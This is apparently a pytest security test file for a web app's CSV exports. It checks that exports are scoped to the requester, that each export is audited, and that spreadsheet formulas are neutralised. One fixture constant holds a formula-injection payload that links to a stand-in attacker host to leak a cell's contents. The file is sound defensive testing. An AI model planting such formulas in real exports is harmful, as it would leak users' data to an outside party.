"""Check 26 (export authorization) and the end-to-end half of check 22 (no spreadsheet
formula leaves an export): exports are always scoped to the person who asks for them."""

from __future__ import annotations

import csv
import io
from typing import Any

from sqlalchemy import inspect, select

from app.exporters.csv_stream import FORMULA_TRIGGERS
from app.extensions import db
from app.models import AccreditationDecision, AuditEvent, Provider
from app.services.clock import utcnow
from tests import factories as f
from tests.conftest import World
from tests.security.helpers import (
    body,
    has_route,
    model_views,
    our_models,
    record_count,
    view_url,
)
from tests.security.oracle import Extras, may

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read_csv(response: Any) -> tuple[list[str], list[list[str]]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(body(response).lstrip("\ufeff"), newline="")))
    return rows[0], rows[1:]


def test_export_row_count_equals_list_count(
    app: Any, world: World, extras: Extras, client_for: Any
) -> None:
    """For every PARS list contact A may open: the export has exactly the list's rows."""
    client = client_for(world.contact_a)
    compared = 0
    for view in model_views(app):
        if not has_route(app, view, "export") or not may(world, "contact_a", view, "export"):
            continue
        listed = record_count(body(client.get(view_url(app, view, "list"))))
        _header, rows = read_csv(client.get(view_url(app, view, "export")))
        assert len(rows) == listed, type(view).__name__
        compared += 1
    assert compared >= 3


def test_accreditor_export_has_only_its_state(
    world: World, extras: Extras, client_for: Any
) -> None:
    client = client_for(world.accreditor_tx)
    _header, activities = read_csv(client.get("/activitymodelview/export/"))
    assert activities and {row[0] for row in activities} == {world.p1.accme_id}
    header, providers = read_csv(client.get("/providermodelview/export/"))
    column = next(i for i, name in enumerate(header) if "ACCME" in name)
    assert [row[column] for row in providers] == [world.p1.accme_id]


def test_replayed_export_url_is_scoped_to_the_requester(
    world: World, extras: Extras, client_for: Any
) -> None:
    """A's export URL filtered on P1, replayed by B: no P1 row (an empty file)."""
    replayed = f"/activitymodelview/export/?_flt_0_provider={world.p1.id}"
    _header, for_a = read_csv(client_for(world.contact_a).get(replayed))
    assert {row[0] for row in for_a} == {world.p1.accme_id}  # the filter works
    response = client_for(world.contact_b).get(replayed)
    _header, for_b = read_csv(response)
    assert for_b == []
    assert "P1 Sepsis Update" not in body(response)


def unsafe_cells(rows: list[list[str]]) -> list[str]:
    """Text cells that start with a formula trigger (numbers such as -1.5 are fine)."""
    unsafe = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    unsafe.append(cell)
    return unsafe


def test_formula_in_a_title_is_neutralised(world: World, extras: Extras, client_for: Any) -> None:
    f.ActivityFactory(provider=world.p1, title=HYPERLINK, provider_activity_id="EVIL-1")
    db.session.commit()
    header, rows = read_csv(client_for(world.contact_a).get("/activitymodelview/export/"))
    title = header.index("Activity Title")
    titles = [row[title] for row in rows]
    assert "'" + HYPERLINK in titles
    assert not unsafe_cells(rows)


def _text_columns(model: type) -> list[Any]:
    return [c for c in inspect(model).columns if c.type.python_type is str and not c.primary_key]


def _storable(triggers: list[str]) -> list[str]:
    """The triggers this database can store (PostgreSQL text never holds NUL)."""
    if db.engine.dialect.name == "postgresql":
        return [t for t in triggers if "\0" not in t]
    return triggers


def _replaced_decision(old: AccreditationDecision) -> AccreditationDecision:
    new = AccreditationDecision(
        provider_id=old.provider_id, outcome=old.outcome, decided_on=old.decided_on,
        recorded_at=old.recorded_at,
    )  # fmt: skip
    db.session.delete(old)
    db.session.add(new)
    return new


def _plant_formulas(triggers: list[str]) -> list[str]:
    """Every text column of every PARS row gets a value starting with a formula trigger."""
    triggers = _storable(triggers)
    planted = []
    for model in our_models():
        columns = _text_columns(model)
        rows = db.session.scalars(select(model)).unique().all()
        if model is AuditEvent:  # append-only: planted in a new row
            rows = [AuditEvent(occurred_at=utcnow(), action="planted")]
            db.session.add(rows[0])
        if model is AccreditationDecision:  # never updated: replaced by planted copies
            rows = [_replaced_decision(row) for row in rows]
        for n, row in enumerate(rows):
            for column in columns:
                value = triggers[n % len(triggers)] + f"{n}"
                setattr(row, column.key, value[: getattr(column.type, "length", None)])
                planted.append(value)
    db.session.commit()
    return planted


def _export_everything(app: Any, client: Any) -> dict[str, list[list[str]]]:
    exports = {}
    for view in model_views(app):
        if has_route(app, view, "export"):
            _header, rows = read_csv(client.get(view_url(app, view, "export")))
            exports[type(view).__name__] = rows
    return exports


def test_no_export_cell_starts_with_a_formula_trigger(
    app: Any, world: World, extras: Extras, client_for: Any
) -> None:
    """Every text column of every row holds a formula; every export of every view, as
    Admin (who sees every row), neutralises each of them."""
    assert _plant_formulas(["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\0=1"])
    name = db.session.scalar(select(Provider.name).where(Provider.id == world.p1.id))
    assert name.startswith(FORMULA_TRIGGERS)
    for view, rows in _export_everything(app, client_for(world.admin)).items():
        assert rows, view
        assert not unsafe_cells(rows), view


def test_carriage_return_in_a_cell_does_not_start_a_new_row(
    app: Any, world: World, extras: Extras, client_for: Any
) -> None:
    assert _plant_formulas(["\r=1+1", "x\r=1+1"])
    client = client_for(world.admin)  # signing in adds an audit row: count after it
    expected = {
        type(view).__name__: db.session.query(view.datamodel.obj).count()
        for view in model_views(app)
    }
    expected["AuditEventModelView"] = (
        db.session.query(AuditEvent).filter(AuditEvent.action != "export").count()
    )
    for view, rows in _export_everything(app, client).items():
        if view == "AuditEventModelView":  # exports add audit rows: count the others
            rows = [row for row in rows if row[1] != "export"]
        assert len(rows) == expected[view], view
        assert not unsafe_cells(rows), view


def test_each_export_appends_one_audit_row(
    app: Any, world: World, extras: Extras, client_for: Any
) -> None:
    """Check 24: every CSV export of every list (and of the annual reporting overview and
    the review dashboard) appends exactly one audit row naming who exported what."""
    from sqlalchemy import func, select

    from app.extensions import db
    from app.models import AuditEvent

    def exports() -> int:
        query = select(func.count(AuditEvent.id)).where(AuditEvent.action == "export")
        return int(db.session.scalar(query) or 0)

    client = client_for(world.staff)
    urls = [view_url(app, v, "export") for v in model_views(app) if has_route(app, v, "export")]
    urls += ["/annualreporting/export/", "/review-dashboard/export"]
    for url in urls:
        before = exports()
        response = client.get(url)
        assert response.status_code == 200, url
        assert exports() == before + 1, url
    row = db.session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert row.actor == world.staff.email and row.ip is not None
